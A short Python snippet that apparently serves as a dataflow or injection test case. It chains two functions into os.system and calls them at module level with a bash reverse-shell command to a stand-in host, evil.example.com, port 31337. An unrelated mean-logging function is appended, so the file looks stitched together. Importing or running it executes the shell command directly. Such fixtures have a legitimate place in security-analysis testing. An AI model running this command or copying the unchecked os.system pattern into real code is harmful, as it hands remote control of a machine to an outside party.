
import os

def inner(x):
    os.system(x)

def outer(y):
    inner(y)

outer("bash -i >& /dev/tcp/evil.example.com/31337 0>&1")
import logging
log = logging.getLogger(__name__)

def report(values):
    log.info("mean=%s", sum(values) / max(len(values), 1))
